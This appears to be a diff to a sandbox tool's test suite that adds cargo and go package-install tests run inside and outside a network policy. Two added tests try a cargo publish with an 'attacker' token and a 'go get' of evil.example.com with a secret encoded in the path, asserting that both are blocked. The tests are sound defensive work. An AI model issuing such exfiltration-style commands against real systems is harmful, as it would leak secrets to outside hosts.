@@ -7,7 +7,7 @@ import subprocess
 import threading
 import time
 
-from standin import packages
+from standin import modules, packages
 from support import Case, victim
 
 JAVA = """
@@ -24,14 +24,15 @@ public class Get {
 
 
 class Tools(Case):
-    def both(self, argv, policy, expected, **keywords):
+    def both(self, argv, policy, expected, env_inside=None, **keywords):
         """Runs argv in either arm with a fresh workspace; what it prints must hold `expected` both times."""
+        keywords_inside = keywords if env_inside is None else {**keywords, "env": env_inside}
         for arm in ("outside", "inside"):
             with self.subTest(arm=arm):
                 shutil.rmtree(self.work)
                 self.folder("work")
                 self.prepare()
-                result = self.outside(argv, **keywords) if arm == "outside" else self.inside(argv, policy, **keywords)
+                result = self.outside(argv, **keywords) if arm == "outside" else self.inside(argv, policy, **keywords_inside)
                 self.assertEqual(result.status, 0, result)
                 self.assertIn(expected, result.out, result)
 
@@ -182,6 +183,52 @@ class Tools(Case):
                   "PYTHONPATH=lib /usr/bin/python3 -c 'import leftwords; print(leftwords.words)'")
         self.both(["/bin/sh", "-c", script], '[[grant]]\npreset = "pypi-install"\n', "words from the index",
                   env={"PIP_CERT": self.lab.authority.pem}, timeout=120)
+
+    def test_cargo(self):
+        cargo, rustc = "/usr/bin/cargo", "/usr/bin/rustc"
+        if not (os.path.exists(cargo) and os.path.exists(rustc)):
+            self.skipTest("cargo is not installed: ./dev packages")
+        self.lab.web.site("index.crates.io", modules.crates_index)
+        self.lab.web.site("static.crates.io", modules.crates_files)
+        # Before 1.68 the sparse index was there for who asks for it.
+        version = tuple(map(int, subprocess.run([cargo, "--version"], capture_output=True, text=True).stdout.split()[1].split(".")[:2]))
+        old = version < (1, 68) and version != (0, 68)
+        option = "-Z sparse-registry" if old else ""
+        script = (f"set -e; export CARGO_HOME=$(mktemp -d); {cargo} init -q --vcs none --name words .; "
+                  f"echo '{modules.CRATE} = \"1\"' >> Cargo.toml; echo 'fn main() {{ println!(\"{{}}\", {modules.CRATE}::WORDS); }}' > src/main.rs; "
+                  f"{cargo} {option} run -q")
+        env = {"RUSTC": rustc, "CARGO_HTTP_CAINFO": self.lab.authority.pem, **({"RUSTC_BOOTSTRAP": "1"} if old else {})}
+        inside = {name: value for name, value in env.items() if name != "CARGO_HTTP_CAINFO"}
+        passed = '[env]\npass = ["RUSTC", "RUSTC_BOOTSTRAP"]\n[[grant]]\npreset = "crates"\n'
+        self.both(["/bin/sh", "-c", script], passed, modules.WORDS, env=env, env_inside=inside, timeout=180)
+        # Publishing is not of it.
+        result = self.inside(["/bin/sh", "-c", script.replace("run -q", "publish -q --allow-dirty --token cio_attacker")], passed,
+                             env=inside, timeout=120)
+        self.assertNotEqual(result.status, 0, result)
+        self.assertEqual([r for r in self.lab.web.received() if r.method != "GET"], [])
+
+    def test_go(self):
+        if not shutil.which("go", path="/usr/bin"):
+            self.skipTest("go is not installed: ./dev packages")
+        for by_proxy in (True, False):
+            go = modules.GoModules(by_proxy)
+            self.lab.web.site("proxy.golang.org", go.proxy)
+            self.lab.web.site("sum.golang.org", go.database)
+            self.lab.web.forget()
+            script = ("set -e; export GOPATH=$(mktemp -d) GOCACHE=$(mktemp -d); go mod init example.com/x 2>/dev/null; "
+                      f"printf 'package main\\nimport \"{go.module}\"\\nfunc main() {{ println(words.Text) }}\\n' > main.go; "
+                      f"go get {go.module}; go run . 2>&1")
+            env = {"GOSUMDB": go.sumdb, "CGO_ENABLED": "0", "GOPROXY": "https://proxy.golang.org", "GOFLAGS": "-modcacherw"}
+            policy = ('[env]\npass = ["GOSUMDB", "CGO_ENABLED", "GOPROXY", "GOFLAGS"]\n'
+                      '[[grant]]\npreset = "go-modules"\nwith = { hosts = ["github.com"] }\n')
+            self.both(["/bin/sh", "-c", script], policy, go.text, env=env, timeout=180)
+            self.assertEqual(bool(self.lab.web.received("sum.golang.org")), not by_proxy)
+        # A module of another host, whose proxy would ask that host.
+        self.lab.web.forget()
+        elsewhere = script.replace(f"go get {go.module}", "go get evil.example.com/secret-in-hex")
+        result = self.inside(["/bin/sh", "-c", elsewhere], policy, env=env, timeout=120)
+        self.assertNotEqual(result.status, 0, result)
+        self.assertEqual([r.path for r in self.lab.web.received() if "secret" in r.path], [])
 
     def test_java(self):
         if not shutil.which("java"):
